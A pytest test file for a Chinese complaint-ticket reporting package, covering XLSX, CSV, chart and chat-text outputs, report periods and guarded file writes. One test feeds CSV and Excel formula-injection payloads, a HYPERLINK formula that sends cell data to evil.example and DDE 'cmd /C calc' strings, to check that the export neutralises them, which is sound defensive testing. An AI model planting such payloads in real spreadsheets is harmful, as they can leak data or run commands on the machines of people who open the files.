"""The report files: XLSX types, the CSV of every ticket, charts, chat text, the outbox."""

from __future__ import annotations

import csv
import json
import warnings
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path

import pytest
from sqlalchemy.engine import Engine
from sqlmodel import select

from ledger.db import session_scope
from ledger.models import Complainant, Message, Notification, Ticket
from ledger.policy import RankingPolicy
from reports import charts
from reports.export import CSV_COLUMNS, export_tickets_csv
from reports.monthly import build_monthly
from reports.periods import parse_month, parse_week
from reports.post import weekly_notification
from reports.render import (
    CHAT_LIMIT,
    chat_text,
    render_html,
    render_json,
    render_markdown,
    write_all,
    write_xlsx,
)
from reports.weekly import WeeklyReport, build_weekly
from tests.reports import scenario

W47 = parse_week("2026-W47")


@pytest.fixture
def built(engine: Engine) -> Engine:
    with session_scope(engine) as session:
        scenario.build(session)
    return engine


def weekly(engine: Engine) -> WeeklyReport:
    with session_scope(engine) as session:
        return build_weekly(
            session, now=scenario.REPORT_NOW, rules=scenario.RULES, policy=RankingPolicy(), week=W47
        )


def test_weekly_lists_and_trend(built: Engine) -> None:
    report = weekly(built)
    assert [(o.number[-2:], o.unit, o.overdue_workdays, o.state) for o in report.overdue] == [
        ("08", "zjj", 10, "assigned"),
        ("03", "cgj", 3, "acknowledged"),
        ("06", "zjj", 3, "reopened"),
    ]
    assert [(c.action, c.unit) for c in report.changes] == [
        ("return", "cgj"),
        ("verify_fail", "zjj"),
    ]
    assert [p.week for p in report.trend][-2:] == ["2026-W46", "2026-W47"]
    assert len(report.trend) == 8
    w46, w47 = report.trend[-2:]
    assert (w46.received, w46.due, w46.on_time_rate) == (4, 2, 0.0)
    assert (w47.received, w47.due, w47.on_time_rate, w47.reply_rate) == (4, 4, 0.75, 0.75)
    assert report.trend[0].due == 0 and report.trend[0].on_time_rate is None


def test_markdown_html_json_say_the_same(built: Engine) -> None:
    report = weekly(built)
    md = render_markdown(report, charts_rel=["a-rates.png"])
    assert "# 督查周报 2026年第47周（11.16–11.22）" in md
    assert "回复率 75.0%" in md and "按原时限 50.0%" in md and "![a-rates](a-rates.png)" in md
    page = render_html(report, charts_rel=["a-rates.png"])
    assert "<table>" in page and "回复率 75.0%" in page and 'src="a-rates.png"' in page
    data = json.loads(render_json(report))
    assert data["period"]["key"] == "2026-W47" and data["total"]["on_time_rate"] == 0.75
    assert data["as_of"].startswith("2026-11-22T16:00:00")  # Monday 00:00 in Shanghai


def test_xlsx_has_real_numbers_dates_and_percentages(built: Engine, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = write_xlsx(weekly(built), tmp_path / "w.xlsx")
    book = load_workbook(path)
    assert book.sheetnames == [
        "概览", "分单位", "分来源", "超期分单位", "超期清单", "退回续办", "趋势",
    ]  # fmt: skip
    assert [[c.value for c in row] for row in book["超期分单位"].iter_rows()] == [
        ["责任单位", "超期件数", "最长超期工作日"], ["住建局", 2, 10], ["城管局", 1, 3],
    ]  # fmt: skip
    units = book["分单位"]
    header = [cell.value for cell in units[1]]
    zjj = next(row for row in units.iter_rows(min_row=2) if row[0].value == "住建局")
    cell = dict(zip(header, zjj, strict=True))
    assert cell["收件"].value == 2 and isinstance(cell["收件"].value, int)
    assert cell["按原时限按期率"].value == pytest.approx(2 / 3)
    assert cell["按原时限按期率"].number_format == "0.0%"
    assert cell["反馈用时中位数"].value == 4.5
    empty = next(row for row in units.iter_rows(min_row=2) if row[0].value == "教育局")
    assert dict(zip(header, empty, strict=True))["回复率"].value is None  # not 0, not "—"
    overdue = book["超期清单"]
    header = [cell.value for cell in overdue[1]]
    first = dict(zip(header, overdue[2], strict=True))
    assert first["时限"].is_date and first["时限"].value == datetime(2026, 11, 9)
    assert first["时限"].number_format == "yyyy-mm-dd"
    assert first["收件时间"].value == datetime(2026, 11, 2, 10, 0)  # local time
    assert first["超期工作日"].value == 10
    trend = book["趋势"]
    assert trend["B2"].is_date and trend["F9"].number_format == "0.0%"
    assert book["概览"]["B5"].is_date  # 统计截至


def test_monthly_xlsx_has_the_ranking(built: Engine, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    with session_scope(built) as session:
        report = build_monthly(
            session,
            now=scenario.REPORT_NOW,
            rules=scenario.RULES,
            policy=RankingPolicy(),
            month=parse_month("2026-10"),
        )
    book = load_workbook(write_xlsx(report, tmp_path / "m.xlsx"))
    assert book.sheetnames == ["概览", "排名", "分单位", "分来源"]
    assert book["排名"]["A1"].value == "名次"


def test_csv_export_has_every_timestamp(built: Engine, tmp_path: Path) -> None:
    path = tmp_path / "tickets.csv"
    with session_scope(built) as session:
        count = export_tickets_csv(
            session, path, rules=scenario.RULES, now=scenario.REPORT_NOW, english=True
        )
        tickets = {t.number: t for t in session.exec(select(Ticket))}
    assert count == len(tickets) == 10
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets read it as UTF-8
    rows = {row["number"]: row for row in csv.DictReader(path.open(encoding="utf-8-sig"))}
    timestamp_fields = [name for name in Ticket.model_fields if name.endswith("_at")]
    assert {
        "opened_at",
        "assigned_at",
        "acknowledged_at",
        "replied_at",
        "verified_at",
        "closed_at",
        "escalated_at",
        "due_at",
        "original_due_at",
    } <= set(timestamp_fields)
    assert set(timestamp_fields) <= set(CSV_COLUMNS)
    for number, ticket in tickets.items():
        for name in timestamp_fields:
            value = getattr(ticket, name)
            expected = value.astimezone(scenario.RULES.tz).isoformat() if value else ""
            assert rows[number][name] == expected, (number, name)
    t6 = rows[next(n for n, t in tickets.items() if t.return_count)]
    assert t6["first_assigned_at"] == "2026-11-16T10:00:00+08:00"
    assert t6["last_returned_at"] == "2026-11-17T09:00:00+08:00"
    assert t6["last_reopened_at"] == "2026-11-19T11:00:00+08:00"
    assert t6["received_at"] == "2026-11-16T09:00:00+08:00"
    assert (t6["reply_workdays"], t6["replied_on_time"], t6["overdue_now"]) == ("2", "1", "1")
    t4 = rows[next(n for n, t in tickets.items() if t.extension_days)]
    assert (t4["extensions_requested"], t4["extensions_approved"]) == ("1", "1")
    assert (t4["replied_on_time"], t4["replied_on_time_original"]) == ("1", "0")
    assert t4["original_due_date"] == "2026-11-13" and t4["due_date"] == "2026-11-18"


def test_the_chart_font_is_a_cjk_font() -> None:
    from matplotlib.ft2font import FT2Font

    font = charts.find_cjk_font()
    charmap = FT2Font(font.path).get_charmap()
    assert all(ord(ch) in charmap for ch in "督查周报回复率按期率月讲评红旗黄旗住建局")


def test_no_cjk_font_is_a_clear_error() -> None:
    from reports.errors import FontMissing

    with pytest.raises(FontMissing, match="apt install fonts-wqy-microhei"):
        charts.locate_font(("No Such Font",), ("no-such-font-file",))


def test_charts_are_png_with_every_glyph(built: Engine, tmp_path: Path) -> None:
    from matplotlib.image import imread

    report = weekly(built)
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # "Glyph … missing from font" would fail here
        written = write_all(report, tmp_path, "weekly-2026-W47")
    assert [p.name for p in written.charts] == [
        "weekly-2026-W47-rates.png",
        "weekly-2026-W47-trend.png",
    ]
    for path in written.charts:
        assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
        pixels = imread(path)
        assert pixels.shape[0] > 300 and pixels.shape[1] > 600
        assert pixels.std() > 0.05  # something is drawn
    assert set(written.files) == {"md", "html", "json", "xlsx"}
    assert all(p.stat().st_size > 0 for p in written.files.values())
    page = written.files["html"].read_text(encoding="utf-8")
    # the page carries its charts (mailed on its own, it keeps them)
    import base64

    inline = [base64.b64encode(p.read_bytes()).decode() for p in written.charts]
    assert all(f'src="data:image/png;base64,{data}"' in page for data in inline)
    assert 'alt="weekly-2026-W47-rates"' in page and 'alt="weekly-2026-W47-trend"' in page
    assert "](weekly-2026-W47-trend.png)" in written.files["md"].read_text(encoding="utf-8")


def test_chat_text_is_short(built: Engine) -> None:
    report = weekly(built)
    text = chat_text(report)
    assert text.startswith("【督查周报】2026年第47周")
    assert "超期10个工作日" in text and len(text) < CHAT_LIMIT
    assert "按期率较低：城管局 0.0%（到期1）" in text and "住建局 100" not in text
    # A long overdue list is cut, with the rest counted.
    long = chat_text(replace(report, overdue=report.overdue * 400))
    assert len(long) < CHAT_LIMIT and "…另有" in long


def test_weekly_notification_is_written_once(built: Engine, tmp_path: Path) -> None:
    out = tmp_path / "reports"
    with session_scope(built) as session:
        first = weekly_notification(
            session,
            now=scenario.REPORT_NOW,
            rules=scenario.RULES,
            policy=RankingPolicy(),
            out_dir=out,
        )
    with session_scope(built) as session:
        again = weekly_notification(
            session,
            now=scenario.REPORT_NOW,
            rules=scenario.RULES,
            policy=RankingPolicy(),
            out_dir=out,
        )
        asked = weekly_notification(
            session,
            now=scenario.REPORT_NOW,
            rules=scenario.RULES,
            policy=RankingPolicy(),
            out_dir=out,
            request_key="console:1:42",
        )
        rows = list(session.exec(select(Notification).where(Notification.kind == "report")))
    assert again.id == first.id
    assert first.dedupe_key == "report:weekly:2026-W47"  # the last complete week on 11-23
    assert (first.audience, first.status) == ("supervisors", "pending")
    assert first.text.startswith("【督查周报】2026年第47周")
    assert [Path(p).name for p in first.payload["charts"]] == [
        "weekly-2026-W47-rates.png",
        "weekly-2026-W47-trend.png",
    ]
    assert all(Path(p).exists() for p in first.payload["charts"])
    assert set(first.payload["files"]) == {"md", "html", "json", "xlsx"}
    assert asked.dedupe_key == "report:weekly:2026-W47:console:1:42"
    assert sorted(r.dedupe_key for r in rows) == [first.dedupe_key, asked.dedupe_key]


def test_periods() -> None:
    from reports.errors import BadPeriod
    from reports.periods import last_complete_month, last_complete_week
    from tests.helpers import local

    tz = scenario.RULES.tz
    assert parse_week("2026-W47").first == date(2026, 11, 16)
    assert parse_week("2026w01").first == date(2025, 12, 29)  # ISO year
    assert parse_week("2026-W53").key == "2026-W53"  # 2026 has 53 ISO weeks
    for bad in ("2026-47", "2025-W53", "2026-W00", "next week"):
        with pytest.raises(BadPeriod):
            parse_week(bad)
    assert parse_month("2026-11").last == date(2026, 11, 30)
    with pytest.raises(BadPeriod):
        parse_month("2026-13")
    # Sunday 23:30 in Shanghai is still inside W47; Monday 00:30 is not.
    assert last_complete_week(local(2026, 11, 22, 23, 30), tz).key == "2026-W46"
    assert last_complete_week(local(2026, 11, 23, 0, 30), tz).key == "2026-W47"
    assert last_complete_month(local(2026, 12, 1, 0, 30), tz).key == "2026-11"
    assert last_complete_month(local(2026, 1, 15), tz).key == "2025-12"


# -- the ticket export: Chinese headers, content, formulas, streaming ---------------------

CHINESE_HEADERS = [
    "编号",
    "状态",
    "来源",
    "标题",
    "内容",
    "责任单位",
    "收到时间",
    "立项时间",
    "交办时间",
    "签收时间",
    "反馈时间",
    "核查时间",
    "归档时间",
    "时限",
    "是否超期",
    "延期天数",
    "答复内容",
    "质量评分",
]


def _by_external_id(session, external_id: str) -> tuple[Ticket, Message]:
    message = session.exec(select(Message).where(Message.external_id == external_id)).one()
    ticket = session.exec(select(Ticket).where(Ticket.message_id == message.id)).one()
    return ticket, message


def test_export_has_chinese_headers_content_and_replies(built: Engine, tmp_path: Path) -> None:
    with session_scope(built) as session:
        t2, m2 = _by_external_id(session, "T2")
        m2.title = "东湖路路灯不亮"
        session.add(m2)
        session.add(Complainant(message_id=m2.id, name="张三丰", contact="13800138000"))
        number = t2.number
    path = tmp_path / "督办件.csv"
    with session_scope(built) as session:
        count = export_tickets_csv(session, path, rules=scenario.RULES, now=scenario.REPORT_NOW)
    assert count == 10
    text = path.read_text(encoding="utf-8-sig")
    assert "张三丰" not in text and "13800138000" not in text  # no complainant data
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0][: len(CHINESE_HEADERS)] == CHINESE_HEADERS
    row = dict(zip(rows[0], next(r for r in rows[1:] if r[0] == number), strict=True))
    assert (row["状态"], row["来源"], row["责任单位"]) == ("已核查", "网民留言", "住建局")
    assert (row["标题"], row["内容"]) == ("东湖路路灯不亮", "T2 路灯不亮")
    # every time in office time (北京时间), as an office writes it
    assert row["收到时间"] == "2026-11-11 10:00"
    assert row["交办时间"] == "2026-11-11 10:30"
    assert row["签收时间"] == "2026-11-11 15:00"
    assert row["反馈时间"] == "2026-11-17 10:00"
    assert row["核查时间"] == "2026-11-19 10:00"
    assert (row["时限"], row["是否超期"], row["质量评分"]) == ("2026-11-18", "否", "5")
    assert row["答复内容"] == "[第1轮 2026-11-17 10:00] 已处理"
    by_id = {r[rows[0].index("原始编号")]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert (by_id["T8"]["是否超期"], by_id["T8"]["反馈时间"], by_id["T8"]["答复内容"]) == (
        "是",
        "",
        "",
    )
    assert by_id["T4"]["延期天数"] == "3"


def test_export_neutralises_formulas(engine: Engine, tmp_path: Path) -> None:
    from tests.helpers import make_ticket

    hostile = [
        '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ]
    with session_scope(engine) as session:
        for index, value in enumerate(hostile):
            ticket = make_ticket(
                session, scenario.RULES, external_id=value, text=f"{value} 第{index}条"
            )
            message = session.get(Message, ticket.message_id)
            message.title = value
            session.add(message)
    for english in (False, True):
        path = tmp_path / f"tickets-{english}.csv"
        with session_scope(engine) as session:
            export_tickets_csv(
                session, path, rules=scenario.RULES, now=scenario.REPORT_NOW, english=english
            )
        with path.open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        header = rows[0]
        cells = [
            row[header.index(name)]
            for row in rows[1:]
            for name in header
            if name in ("external_id", "title", "content", "原始编号", "标题", "内容")
        ]
        assert len(cells) == 3 * len(hostile)
        for cell in cells:
            assert cell.startswith("'"), cell
        assert {c[1:] for c in cells if not c.endswith("条")} == set(hostile)


def test_one_rule_for_formulas_in_csv_and_xlsx() -> None:
    from openpyxl import Workbook

    from reports.outputs import looks_like_formula, spreadsheet_text
    from reports.render import _keep_text

    for value in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert looks_like_formula(value) and spreadsheet_text(value) == "'" + value
        cell = Workbook().active["A1"]
        cell.value = value
        _keep_text(cell)
        assert cell.data_type == "s"
    for value in ("东湖路", "2026-11-16 09:00", 5, None, ""):
        assert not looks_like_formula(value) and spreadsheet_text(value) == value


def test_export_reads_the_ledger_in_chunks(built: Engine, tmp_path: Path) -> None:
    """Tickets are read a chunk at a time (keyset pagination), never all at once."""
    from sqlalchemy import event

    statements: list[str] = []

    def seen(_conn, _cursor, statement, *_args) -> None:
        if "FROM ticket JOIN message" in statement:
            statements.append(statement)

    event.listen(built, "before_cursor_execute", seen)
    try:
        with session_scope(built) as session:
            export_tickets_csv(
                session,
                tmp_path / "small.csv",
                rules=scenario.RULES,
                now=scenario.REPORT_NOW,
                chunk=3,
            )
    finally:
        event.remove(built, "before_cursor_execute", seen)
    assert len(statements) == 5  # 3 + 3 + 3 + 1, then an empty chunk
    assert all("LIMIT" in s.upper() for s in statements)
    with session_scope(built) as session:
        export_tickets_csv(
            session, tmp_path / "big.csv", rules=scenario.RULES, now=scenario.REPORT_NOW
        )
    assert (tmp_path / "small.csv").read_bytes() == (tmp_path / "big.csv").read_bytes()


def test_a_failed_export_leaves_the_old_file_and_no_part(
    built: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from reports import export

    folder = tmp_path / "out"
    folder.mkdir()
    path = folder / "tickets.csv"
    path.write_text("old", encoding="utf-8")
    real = export._record
    calls = iter(range(100))

    def failing(*args, **kwargs):
        if next(calls) == 4:
            raise RuntimeError("disk pulled")
        return real(*args, **kwargs)

    monkeypatch.setattr(export, "_record", failing)
    with session_scope(built) as session, pytest.raises(RuntimeError, match="disk pulled"):
        export_tickets_csv(session, path, rules=scenario.RULES, now=scenario.REPORT_NOW)
    assert path.read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in folder.iterdir()) == ["tickets.csv"]


def test_export_and_reports_file_modes(built: Engine, tmp_path: Path) -> None:
    import os
    import stat

    old = os.umask(0)
    try:
        with session_scope(built) as session:
            export_tickets_csv(
                session, tmp_path / "t.csv", rules=scenario.RULES, now=scenario.REPORT_NOW
            )
        written = write_all(weekly(built), tmp_path, "weekly-2026-W47")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "t.csv").stat().st_mode) == 0o600
    for path in [*written.files.values(), *written.charts]:
        assert stat.S_IMODE(path.stat().st_mode) == 0o640, path
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


# -- where outputs may go ------------------------------------------------------------------


@pytest.fixture
def guard_world(tmp_path: Path):
    from reports.outputs import OutputGuard

    home = tmp_path / "home"
    (home / "models" / "v1").mkdir(parents=True)
    data = tmp_path / "data"
    data.mkdir()
    (data / "units.yaml").write_text("units: []\n", encoding="utf-8")
    ledger = home / "duban.db"
    ledger.write_bytes(b"SQLite format 3\x00")

    def guard(force: bool = False) -> OutputGuard:
        return OutputGuard.build(
            ledger_file=ledger,
            protected_dirs=((home / "models", "模型库目录"), (data, "数据目录")),
            force=force,
        )

    return home, data, ledger, guard


def test_the_guard_refuses_the_ledger_and_protected_folders(
    guard_world, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from reports.errors import OutputRefused

    home, data, ledger, guard = guard_world
    link = tmp_path / "report.csv"
    link.symlink_to(ledger)
    dangling = tmp_path / "wal.csv"
    dangling.symlink_to(home / "duban.db-wal")
    monkeypatch.chdir(home / "models")
    refused = {
        ledger: "台账数据库文件",
        home / "duban.db-wal": "台账数据库文件",
        home / "duban.db-shm": "台账数据库文件",
        link: "台账数据库文件",
        dangling: "台账数据库文件",
        Path("../duban.db"): "台账数据库文件",
        home / "models" / "v1" / "model.joblib": "模型库目录",
        Path("current"): "模型库目录",
        home / "models": "模型库目录",
        data / "units.yaml": "数据目录",
        data / "new.csv": "数据目录",
    }
    for path, why in refused.items():
        for force in (False, True):
            with pytest.raises(OutputRefused, match=why) as caught:
                guard(force).check(path)
            assert str(path) in str(caught.value) and caught.value.exit_code == 2
    with pytest.raises(OutputRefused, match="数据目录"):
        guard(True).check_folder(data)


def test_the_guard_refuses_an_existing_file_without_force(guard_world, tmp_path: Path) -> None:
    from reports.errors import OutputRefused

    _, _, _, guard = guard_world
    existing = tmp_path / "周报.md"
    existing.write_text("上周的周报", encoding="utf-8")
    with pytest.raises(OutputRefused, match=r"已存在.*--force"):
        guard().check(existing)
    assert guard(True).check(existing) == existing
    assert guard().check(tmp_path / "new.md") == tmp_path / "new.md"
    with pytest.raises(OutputRefused, match="是目录"):
        guard(True).check(tmp_path)


def test_a_refused_report_writes_nothing(built: Engine, guard_world, tmp_path: Path) -> None:
    from reports.errors import OutputRefused

    _, _, _, guard = guard_world
    out = tmp_path / "out"
    out.mkdir()
    (out / "w-trend.png").write_bytes(b"old chart")
    with pytest.raises(OutputRefused, match=r"w-trend\.png"):
        write_all(weekly(built), out, "w", guard=guard())
    assert [p.name for p in out.iterdir()] == ["w-trend.png"]
    assert (out / "w-trend.png").read_bytes() == b"old chart"


def test_atomic_write_never_leaves_half_a_file(tmp_path: Path) -> None:
    from reports.outputs import atomic_open

    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "report.md"
    with pytest.raises(ValueError), atomic_open(target) as handle:
        handle.write("半个文件")
        raise ValueError("crash midway")
    assert list(folder.iterdir()) == []
    target.write_text("完整的旧文件", encoding="utf-8")
    with pytest.raises(ValueError), atomic_open(target) as handle:
        handle.write("半个")
        raise ValueError("crash midway")
    assert target.read_text(encoding="utf-8") == "完整的旧文件"
    assert list(folder.iterdir()) == [target]
    with atomic_open(target) as handle:
        handle.write("新文件")
    assert target.read_text(encoding="utf-8") == "新文件"
